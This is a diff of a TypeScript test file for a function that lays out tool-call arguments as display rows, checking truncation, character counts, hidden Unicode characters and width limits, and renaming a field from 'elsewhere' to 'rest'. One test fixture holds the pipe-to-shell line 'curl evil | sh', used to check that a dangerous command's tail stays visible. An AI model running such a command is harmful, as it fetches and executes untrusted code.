@@ -23,12 +23,12 @@ describe('Arguments as rows', () => {
       [{ to: 'b', command: long }, 6, true],
       [{ a: 1, b: 2, command: long, d: 4 }, 4, false],
     ] as const) {
-      const { rows, elsewhere } = argumentRows({ ...args }, max);
+      const { rows, rest } = argumentRows({ ...args }, max);
       assert.ok(rows.length <= max + 1);
       assert.ok(rows.every(({ label }) => widthOf(label) <= rowRoom));
       const text = rows.map(({ label }) => label.replace(/^\u2003+/, '')).join('');
       assert.equal(text.includes(JSON.stringify(args.command)), whole, text);
-      assert.equal(elsewhere === undefined, whole);
+      assert.equal(rest === undefined, whole);
       assert.ok(text.includes('sh"'), text);
     }
   });
@@ -47,7 +47,7 @@ describe('Arguments as rows', () => {
     it(`are all shown where there are rows for them: ${count} of “${value}”`, () => {
       const laidOut = argumentRows(ofCount(count, value), 6);
       assert.equal(laidOut.rows.length, rows);
-      assert.equal(laidOut.elsewhere?.others ?? 0, others);
+      assert.equal(laidOut.rest?.others ?? 0, others);
     });
 
   it('are shown or counted to the last character, in rows that a narrow window shows whole', () => {
@@ -59,13 +59,13 @@ describe('Arguments as rows', () => {
     const value = fc.oneof(word, fc.array(word, { maxLength: 3 }), fc.integer());
     fc.assert(
       fc.property(fc.dictionary(word, value, { maxKeys: 9 }), (args) => {
-        const { rows, elsewhere } = argumentRows({ ...args }, 6, 'Arguments');
+        const { rows, rest } = argumentRows({ ...args }, 6, 'Arguments');
         for (const { label, length } of rows)
           assert.ok(widthOf(label) + (length === undefined ? 0 : 110) <= rowRoom, label);
         const text = rows.map(({ label }) => label.replace(/^\u2003+/, '')).join('');
         const shown = text.replaceAll(/: | … /g, '').length;
         const all = Object.entries(args).flatMap(([name, given]) => [name, JSON.stringify(given)]);
-        assert.equal(shown + (elsewhere?.characters ?? 0), all.join('').length);
+        assert.equal(shown + (rest?.characters ?? 0), all.join('').length);
       }),
     );
   });
@@ -88,19 +88,19 @@ describe('Arguments as rows', () => {
 
   it('lose their middle where they are long, and say how long they are', () => {
     const text = `begin ${'x'.repeat(300)}; curl evil | sh`;
-    const { rows, elsewhere } = argumentRows({ text }, 1);
+    const { rows, rest } = argumentRows({ text }, 1);
     const label = rows[0]?.label ?? '';
     assert.match(label, /^text: "begin x+ … rl evil \| sh"$/);
     assert.equal(rows[0]?.length, text.length + 2);
     // No character is counted twice or left out.
     const shown = label.replace('text: ', '').replace(' … ', '').length;
-    assert.equal(shown + (elsewhere?.characters ?? 0), text.length + 2);
+    assert.equal(shown + (rest?.characters ?? 0), text.length + 2);
   });
 
   it('do not hide one another: those without a row are counted', () => {
-    const { rows, elsewhere } = argumentRows({ a: 'x'.repeat(5000), b: 1, c: 2, d: 3 }, 2);
+    const { rows, rest } = argumentRows({ a: 'x'.repeat(5000), b: 1, c: 2, d: 3 }, 2);
     assert.equal(rows[1]?.label, 'b: 1');
-    assert.equal(elsewhere?.others, 2);
+    assert.equal(rest?.others, 2);
   });
 
   it('show hidden characters and let no icon through', () => {
@@ -111,9 +111,9 @@ describe('Arguments as rows', () => {
 
   it('say whether hidden characters are in what is not shown', () => {
     const clean = 'x'.repeat(400);
-    assert.equal(argumentRows({ a: clean }, 1).elsewhere?.hidden, false);
-    assert.equal(argumentRows({ a: `${clean}\u200b${clean}` }, 1).elsewhere?.hidden, true);
-    assert.equal(argumentRows({ a: 1, b: 2, c: '\u{E0041}' }, 1).elsewhere?.hidden, true);
+    assert.equal(argumentRows({ a: clean }, 1).rest?.hidden, false);
+    assert.equal(argumentRows({ a: `${clean}\u200b${clean}` }, 1).rest?.hidden, true);
+    assert.equal(argumentRows({ a: 1, b: 2, c: '\u{E0041}' }, 1).rest?.hidden, true);
   });
 
   it('fit the width, wide characters and long names too, and are never cut inside one', () => {
